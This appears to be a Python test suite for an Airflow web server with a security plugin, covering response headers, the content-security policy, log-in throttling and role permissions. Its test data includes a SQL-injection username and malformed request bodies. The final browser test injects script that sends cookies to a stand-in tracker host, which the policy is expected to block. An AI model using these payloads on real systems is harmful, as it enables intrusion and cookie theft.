"""Airflow's web server with Filmpulse's plugin: headers on every answer, and log-ins that wait."""

from __future__ import annotations

import json
import os
import re
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from helpers.airflow_web import DAG, PASSWORDS, RUN, TASK, logged_in, stranger, wait
from selenium import webdriver

from filmpulse.web import waits
from filmpulse.web.headers import HEADERS, POLICY

pytestmark = pytest.mark.slow


@pytest.fixture
def client(app: Any) -> Any:
    """A stranger at an address of their own."""
    return stranger(app, f"192.0.2.{os.urandom(1)[0]}-{os.urandom(4).hex()}")


class Clock:
    """A clock that a test sets."""

    def __init__(self) -> None:
        self.now = 1_800_000_000.0

    def time(self) -> float:
        """Say what time it is."""
        return self.now


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
    """The clock that log-ins are counted by."""
    made = Clock()
    monkeypatch.setattr(waits, "time", made)
    return made


# --- headers -------------------------------------------------------------------------------------

EVERYTHING = [
    ("GET", "/", 200),
    ("GET", "/dags/movie_reception", 200),  # a page of the single-page app
    ("GET", "/static/pin_32.png", 200),
    ("GET", "/static/no-such-file.js", 404),
    ("GET", "/auth/login", 200),
    ("GET", "/auth/static/pin_32.png", 200),
    ("GET", "/openapi.json", 200),
    ("GET", "/api/v2/version", 200),
    ("GET", "/api/v2/no-such-route", 404),
    ("GET", "/api/v2/dags", 401),
    ("GET", "/ui/config", 401),
    ("PUT", "/api/v2/dags", 405),
    ("POST", "/auth/token", 422),
    ("GET", "/api/v2/auth/logout", 307),
    ("GET", "/execution/health", 200),
    ("GET", "/docs", 404),
]


@pytest.mark.parametrize(("method", "path", "status"), EVERYTHING)
def test_every_answer_has_the_headers(client: Any, method: str, path: str, status: int) -> None:
    answer = client.request(method, path, json={} if method == "POST" else None)
    assert answer.status_code == status, answer.text[:300]
    for name, value in HEADERS.items():
        assert answer.headers.get_list(name) == [value], name


def test_an_error_that_nothing_handled_has_the_headers(
    client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: Any) -> None:
        raise RuntimeError("as if the database were gone")

    monkeypatch.setattr("filmpulse.web.log_in._take", fail)
    answer = client.post("/auth/token", json={"username": "admin", "password": "x"})
    assert answer.status_code == 500
    assert answer.headers["content-security-policy"] == HEADERS["content-security-policy"]
    assert "database" not in answer.text


@pytest.mark.parametrize("app_path", ["", "/auth", "/execution"])
@pytest.mark.parametrize("page", ["/docs", "/docs/", "/redoc", "/docs/oauth2-redirect"])
def test_no_page_runs_another_hosts_script(client: Any, app_path: str, page: str) -> None:
    answer = client.get(app_path + page, params={"version": "2026-01-01"})
    assert answer.status_code == 404
    assert "http" not in answer.text


def test_the_policy_names_no_other_host_and_no_script_of_a_page() -> None:
    sources = {source for value in POLICY.values() for source in value.split()}
    assert sources == {"'self'", "'none'", "'unsafe-inline'", "data:", "blob:"}
    assert POLICY["script-src"] == "'self'"
    assert POLICY["default-src"] == "'none'"


def test_airflows_pages_hold_no_script_of_their_own(client: Any) -> None:
    for path in ("/", "/auth/login"):
        page = client.get(path).text
        scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", page, re.DOTALL)
        assert scripts
        assert all("src=" in attributes and not body.strip() for attributes, body in scripts)


# --- log-ins -------------------------------------------------------------------------------------

WRONG, RIGHT = (
    {"username": "admin", "password": "wrong"},
    {
        "username": "admin",
        "password": PASSWORDS["admin"],
    },
)


def _statuses(client: Any, times: int, body: Any = None) -> list[int]:
    return [
        client.post("/auth/token", json=WRONG if body is None else body).status_code
        for _ in range(times)
    ]


def test_after_ten_wrong_passwords_a_name_waits_longer_and_longer(
    client: Any, clock: Clock
) -> None:
    assert _statuses(client, 11) == [401] * 10 + [429]
    waited = []
    for _ in range(9):
        refused = client.post("/auth/token", json=RIGHT)
        assert refused.status_code == 429, "the right password has to wait as well"
        waited.append(int(refused.headers["retry-after"]))
        clock.now += waited[-1] - 1
        assert _statuses(client, 1) == [429], "the wait is not over"
        clock.now += 1
        assert _statuses(client, 1) == [401]
    assert waited == [30, 60, 120, 240, 480, 960, 1920, 3600, 3600]


def test_the_wait_ends_by_itself_and_a_right_password_ends_the_count(
    client: Any, clock: Clock
) -> None:
    _statuses(client, 10)
    clock.now += 30
    assert _statuses(client, 1, RIGHT) == [201]
    assert _statuses(client, 11) == [401] * 10 + [429]
    clock.now += 86_400 + 31
    assert _statuses(client, 10) == [401] * 10, "a day later it is forgotten"


def test_a_wait_is_of_one_name_at_one_address(app: Any, client: Any, clock: Clock) -> None:
    _statuses(client, 11)
    viewer = {"username": "viewer", "password": PASSWORDS["viewer"]}
    assert _statuses(client, 1, viewer) == [201]
    assert _statuses(stranger(app, "another address"), 1, RIGHT) == [201]
    assert _statuses(client, 1, RIGHT) == [429]


@pytest.mark.parametrize(
    "header", ["X-Forwarded-For", "Forwarded", "X-Real-IP", "X-Client-IP", "CF-Connecting-IP"]
)
def test_what_a_header_says_of_the_address_counts_for_nothing(
    client: Any, clock: Clock, header: str
) -> None:
    tries = [
        client.post("/auth/token", json=WRONG, headers={header: f"198.51.100.{n}"}).status_code
        for n in range(11)
    ]
    assert tries == [401] * 10 + [429]


FORM = "application/x-www-form-urlencoded"
SPELLINGS = {
    "JSON": ("/auth/token", "application/json", '{"username": "admin", "password": "%s"}'),
    "escaped": ("/auth/token", "application/json", '{"username":"\\u0061dmin","password":"%s"}'),
    "twice": (
        *("/auth/token", "application/json"),
        '{"username": "someone", "username": "admin", "password": "%s"}',
    ),
    "form": ("/auth/token", FORM, "username=admin&password=%s"),
    "escaped form": ("/auth/token", FORM, "username=%%61dmin&password=%s"),
    "form, name twice": ("/auth/token", FORM, "username=someone&username=admin&password=%s"),
    "command line": (
        *("/auth/token/cli", "application/json"),
        '{"username": "admin", "password": "%s"}',
    ),
}


@pytest.mark.parametrize(("path", "kind", "body"), SPELLINGS.values(), ids=SPELLINGS)
def test_every_way_to_log_in_is_counted_alike(
    client: Any, clock: Clock, path: str, kind: str, body: str
) -> None:
    _statuses(client, 9)

    def ask(password: str) -> int:
        headers = {"content-type": kind}
        return int(client.post(path, content=body % password, headers=headers).status_code)

    assert ask("wrong") == 401
    assert ask(PASSWORDS["admin"]) == 429
    assert _statuses(client, 1) == [429]
    clock.now += 30
    assert ask(PASSWORDS["admin"]) == 201
    assert _statuses(client, 1, RIGHT) == [201]


HOSTILE = {
    "empty": b"",
    "no object": b"[]",
    "a number for a name": b'{"username": 1, "password": "x"}',
    "nested": b'{"username": {"a": 1}, "password": "x"}',
    "deep": b"[" * 60_000,
    "no text": b"\xff\xfe\x00",
    "half": b'{"username": "admin", "pass',
    "no password": b'{"username": "admin"}',
}


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE)
def test_a_body_that_is_no_log_in_is_refused_and_counted(
    client: Any, clock: Clock, body: bytes
) -> None:
    headers = {"content-type": "application/json"}
    tries = [
        client.post("/auth/token", content=body, headers=headers).status_code for _ in range(11)
    ]
    assert tries[-1] == 429
    assert all(400 <= status < 600 and status != 429 for status in tries[:-1])
    assert _statuses(client, 1, RIGHT) == [201]


def test_a_body_that_is_too_long_is_not_read(client: Any) -> None:
    body = json.dumps(WRONG | {"password": "x" * 70_000})
    answer = client.post("/auth/token", content=body, headers={"content-type": "application/json"})
    assert answer.status_code == 413


@pytest.mark.parametrize("name", ["Zoë", "名前", "a" * 1000, "nul \0", "' OR 1=1 --", " admin"])
def test_names_that_nobody_has_are_counted_too(client: Any, clock: Clock, name: str) -> None:
    body = {"username": name, "password": "x"}
    assert _statuses(client, 11, body) == [401] * 10 + [429]


def test_every_post_below_auth_is_a_log_in(app: Any) -> None:
    """Else it would be a way in that nobody counts, or would be counted without need."""
    [auth] = [route.app for route in app.routes if getattr(route, "path", "") == "/auth"]
    changing = {
        (method, route.path)
        for route in auth.routes
        for method in getattr(route, "methods", None) or ()
        if method not in ("GET", "HEAD")
    }
    assert changing == {("POST", "/token"), ("POST", "/token/cli")}


def test_superset_has_the_same_waits() -> None:
    theirs = Path(__file__).resolve().parents[3] / "superset" / "config" / "waits.py"
    assert theirs.read_text(encoding="utf-8") == Path(waits.__file__).read_text(encoding="utf-8")


# --- the viewer ----------------------------------------------------------------------------------

# What a viewer may do with another method than GET, and why that changes nothing of others'.
ALLOWED = {
    "POST /api/v2/dags/{dag_id}/favorite": "a mark on the viewer's own list",
    "POST /api/v2/dags/{dag_id}/unfavorite": "a mark on the viewer's own list",
    "POST /api/v2/dags/{dag_id}/dagRuns/list": "reads: a GET with a long question",
    "POST /api/v2/dags/{dag_id}/dagRuns/{dag_run_id}/taskInstances/list": "as the list of runs",
    "POST /ui/auth/token": "a token of the viewer's own rights",
    "POST /auth/token": "the log-in",
    "POST /auth/token/cli": "the log-in of the command line",
}


def _bulk(entity: dict[str, Any], action: str = "create") -> dict[str, Any]:
    return {"actions": [{"action": action, "entities": [entity]}]}


_RUN = {"dag_id": DAG, "dag_run_id": "none"}
BODIES = {
    "PATCH /api/v2/connections": _bulk({"connection_id": "mine", "conn_type": "http"}),
    "PATCH /api/v2/pools": _bulk({"name": "mine", "slots": 1}),
    "PATCH /api/v2/variables": _bulk({"key": "mine", "value": "1"}),
    "PATCH /api/v2/dags/{dag_id}/dagRuns": _bulk(_RUN, "update"),
    "POST /api/v2/dags/{dag_id}/clearDagRuns": {"dag_runs": [_RUN], "dry_run": False},
    "POST /api/v2/connections/enqueue-test": {"connection_id": "mine", "conn_type": "http"},
}


@pytest.fixture(scope="module")
def places(app: Any) -> dict[str, str]:
    """Stand-ins for what stands in braces in a route; what Airflow looks up first does exist."""
    from airflow.models.backfill import Backfill
    from airflow.utils.session import create_session
    from itsdangerous import URLSafeSerializer

    day = datetime(2026, 1, 1, tzinfo=UTC)
    with create_session() as session:
        backfill = Backfill(dag_id=DAG, from_date=day, to_date=day)
        session.add(backfill)
        session.flush()
        number = str(backfill.id)
    signer = URLSafeSerializer(app.state.secret_key)
    token = signer.dumps({"bundle_name": "checkout", "relative_fileloc": f"{DAG}.py"})
    return {"dag_id": DAG, "backfill_id": number, "file_token": token}


@pytest.fixture(scope="module")
def changing_routes(app: Any) -> list[str]:
    """Every route of Airflow that is not GET, as `METHOD /path`; tasks' own API is apart."""
    found = []
    for prefix, routes in (("", app.routes), *_mounted(app)):
        for route in routes:
            methods = set(getattr(route, "methods", None) or ()) - {"GET", "HEAD", "OPTIONS"}
            found += [f"{method} {prefix}{route.path}" for method in sorted(methods)]
    assert len(found) > 60
    return found


def _mounted(app: Any) -> Iterator[tuple[str, Any]]:
    for route in app.routes:
        if getattr(route, "path", "") == "/auth":
            yield "/auth", route.app.routes


def _ask(client: Any, route: str, places: dict[str, str], token: str | None) -> int:
    method, path = route.split()
    path = re.sub(r"\{(\w+)(:\w+)?\}", lambda found: places.get(found.group(1), "1"), path)
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    answer = client.request(method, path, headers=headers, json=BODIES.get(route, {}))
    return int(answer.status_code)


def test_a_viewer_reads_and_changes_nothing(
    client: Any, changing_routes: list[str], places: dict[str, str]
) -> None:
    viewer = {"username": "viewer", "password": PASSWORDS["viewer"]}
    token = client.post("/auth/token", json=viewer).json()["access_token"]
    said = {
        route: _ask(client, route, places, token)
        for route in changing_routes
        if route not in ALLOWED
    }
    assert {route: status for route, status in said.items() if status != 403} == {}
    assert ALLOWED.keys() <= {*changing_routes}
    headers = {"Authorization": f"Bearer {token}"}
    assert client.get("/api/v2/dags", headers=headers).status_code == 200
    for closed in ("/api/v2/variables", "/api/v2/connections"):
        assert client.get(closed, headers=headers).status_code == 403


def test_a_stranger_changes_nothing(
    client: Any, changing_routes: list[str], places: dict[str, str]
) -> None:
    said = {
        route: _ask(client, route, places, None)
        for route in changing_routes
        if not route.startswith("POST /auth/")
    }
    assert {route: status for route, status in said.items() if status != 401} == {}


def test_a_log_out_ends_the_token_on_the_server(client: Any) -> None:
    viewer = {"username": "viewer", "password": PASSWORDS["viewer"]}
    one, two = (client.post("/auth/token", json=viewer).json()["access_token"] for _ in range(2))

    def status(token: str) -> int:
        headers = {"Authorization": f"Bearer {token}"}
        return int(client.get("/api/v2/dags", headers=headers).status_code)

    assert (status(one), status(two)) == (200, 200)
    client.get("/api/v2/auth/logout", headers={"Authorization": f"Bearer {one}"})
    assert status(one) in (401, 403)
    assert status(two) == 200


def test_tasks_own_api_takes_no_persons_token(client: Any, app: Any) -> None:
    admin = client.post("/auth/token", json=RIGHT).json()["access_token"]
    [execution] = [route.app for route in app.routes if getattr(route, "path", "") == "/execution"]
    nobody = "00000000-0000-7000-8000-000000000000"
    with client:  # its parts are made when the server starts
        client.get("/execution/health")  # and its routes by the first request
        routers = execution.router.versioned_routers
        routes = sorted(
            (method, route.path)
            for route in routers[max(routers)].routes
            for method in route.methods - {"HEAD", "OPTIONS"}
            if not route.path.startswith(("/health", "/openapi", "/changelog", "/docs", "/redoc"))
        )
        assert len(routes) > 20
        for method, path in routes:
            place = "/execution" + re.sub(r"\{[^}]+\}", nobody, path)
            for headers in ({}, {"Authorization": f"Bearer {admin}"}):
                answer = client.request(method, place, headers=headers, json={})
                assert answer.status_code in (401, 403), (method, path, answer.text)


# --- in a browser --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def address(app: Any) -> Iterator[str]:
    """Airflow's web server on a port of its own."""
    from filmpulse.local import ports

    port = ports.choose()
    server = uvicorn.Server(
        uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", lifespan="off")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        assert thread.is_alive()
        time.sleep(0.02)
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(30)


@pytest.fixture(scope="module")
def browser(address: str) -> Iterator[webdriver.Chrome]:
    """A real browser, logged in by Airflow's own page, that notes what the policy forbade."""
    with logged_in(address, "admin", PASSWORDS["admin"]) as chrome:
        yield chrome


PAGES = {
    "/": "Health",
    "/dags": DAG,
    f"/dags/{DAG}": DAG,
    f"/dags/{DAG}/code": "ApprovalOperator",
    f"/dags/{DAG}/runs/{RUN}": RUN,
    f"/dags/{DAG}/runs/{RUN}/tasks/{TASK}": TASK,
    f"/dags/{DAG}/runs/{RUN}/tasks/{TASK}/required_actions": "Pay?",
    "/required_actions": "Pay?",
    "/variables": "Variable",
    "/connections": "Connection",
    "/pools": "default_pool",
    "/assets": "Asset",
}


@pytest.mark.parametrize(("path", "text"), PAGES.items())
def test_the_policy_forbids_nothing_that_airflows_pages_do(
    browser: webdriver.Chrome, address: str, path: str, text: str
) -> None:
    browser.get(address + path)
    wait(
        browser,
        f"return window.asked > 0 && window.asking === 0 && "
        f"document.body.innerText.includes({json.dumps(text)})",
    )
    assert browser.execute_script("return window.violations") == []
    said = [each["message"] for each in browser.get_log("browser")]
    assert [each for each in said if "Content Security Policy" in each] == []


def test_the_policy_stops_a_script_that_got_into_a_page(
    browser: webdriver.Chrome, address: str
) -> None:
    browser.get(f"{address}/variables")
    wait(browser, "return document.body.innerText.includes('Variable')")
    browser.execute_script(
        "const one = document.createElement('script'); one.textContent = 'window.got = 1';"
        "document.body.append(one);"
        "const two = document.createElement('script'); two.src = 'https://cdn.example/x.js';"
        "document.body.append(two);"
        "const image = new Image(); image.src = 'https://tracker.example/?' + document.cookie;"
    )
    wait(browser, "return window.violations.length >= 3")
    assert browser.execute_script("return window.got") is None
    kinds = {each.split()[0] for each in browser.execute_script("return window.violations")}
    assert kinds == {"script-src-elem", "img-src"}
    browser.get_log("browser")
